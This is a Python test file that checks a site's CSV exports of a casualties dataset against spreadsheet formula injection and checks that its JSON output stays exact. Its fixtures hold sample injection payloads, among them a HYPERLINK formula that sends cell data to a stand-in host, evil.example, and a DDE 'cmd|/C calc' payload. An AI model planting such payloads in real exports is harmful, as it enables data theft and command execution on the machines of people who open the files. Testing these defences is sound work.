"""CSV downloads are safe to open in a spreadsheet (OWASP CSV injection), and exact in JSON."""

import csv
import io
import json

from helpers import FIXTURES, build_site

from datasets.exports import records_from_csv, safe_cell

FORMULAS = {
    "notes": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "documented_by": "+1+cmd|' /C calc'!A0",
    "perpetrator": "-2+3",
    # No '|' here: it separates a record's sources in the CSV, and the build refuses it in a
    # publisher (the DDE payload with '|' is tested in documented_by).
    "sources[0].publisher": "@SUM(1+1)*cmd",
    "s-2 notes": "=1+1 in the notes of a second record",
}


def test_formula_cells_are_neutralised_in_csv_and_exact_in_json(tmp_path, synthetic_site):
    data = (FIXTURES / "datasets-site" / "data" / "casualties.yml").read_text(encoding="utf-8")
    data = data.replace(
        "notes: Two reports differ on the death toll.", f"notes: {json.dumps(FORMULAS['notes'])}"
    )
    data = data.replace(
        "documented_by: Test Monitor\n    notes:",
        f"documented_by: {json.dumps(FORMULAS['documented_by'])}\n    notes:",
        1,
    )
    data = data.replace("perpetrator: Test air force", f"perpetrator: {json.dumps(FORMULAS['perpetrator'])}")
    data = data.replace(
        'publisher: First Publisher\n        title: "Report one: Beta town"',
        f'publisher: {json.dumps(FORMULAS["sources[0].publisher"])}\n        title: "Report one: Beta town"',
        1,
    )
    data = data.replace(
        'date_note: Given as "early March" by the source.',
        f'date_note: Given as "early March" by the source.\n    notes: {json.dumps(FORMULAS["s-2 notes"])}',
    )
    site = build_site(
        tmp_path, fixture="datasets-site", files={"data/casualties.yml": data}, caches=synthetic_site.site
    )
    assert site.ok, site.log
    text = (site.output / "data/casualties/casualties.csv").read_text(encoding="utf-8")
    with open(site.output / "data/casualties/casualties.csv", newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    s1 = next(row for row in rows if row["id"] == "s-1")
    assert s1["notes"] == "'" + FORMULAS["notes"]
    assert s1["documented_by"] == "'" + FORMULAS["documented_by"]
    assert s1["perpetrator"] == "'" + FORMULAS["perpetrator"]
    publishers = s1["source_publisher"].split("|")
    assert publishers[0].startswith("'@SUM"), s1["source_publisher"]
    for row in rows[1:]:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (column, cell)
    # Numbers stay numbers; the JSON and a read-back keep the exact values.
    assert s1["killed_min"] == "15"
    record = next(
        r for r in json.loads(site.read("data/casualties/casualties.json"))["records"] if r["id"] == "s-1"
    )
    assert record["notes"] == FORMULAS["notes"] and record["perpetrator"] == FORMULAS["perpetrator"]
    s2 = next(row for row in rows if row["id"] == "s-2")
    assert s2["notes"] == "'" + FORMULAS["s-2 notes"]
    back = next(r for r in records_from_csv(text, "casualties") if r.id == "s-1")
    assert back.notes == FORMULAS["notes"] and back.sources[0].publisher == FORMULAS["sources[0].publisher"]


def test_tab_and_carriage_return_first_are_neutralised_too():
    """Record text fields are trimmed by the models, so these two are checked on the cell function."""
    for text in ("\tcmd", "\r=1+1", "'quoted"):
        out = io.StringIO()
        csv.writer(out).writerow([safe_cell(text)])
        cell = next(csv.reader(io.StringIO(out.getvalue())))[0]
        assert cell == "'" + text
    assert safe_cell("-3.5") == "-3.5" and safe_cell("plain") == "plain"
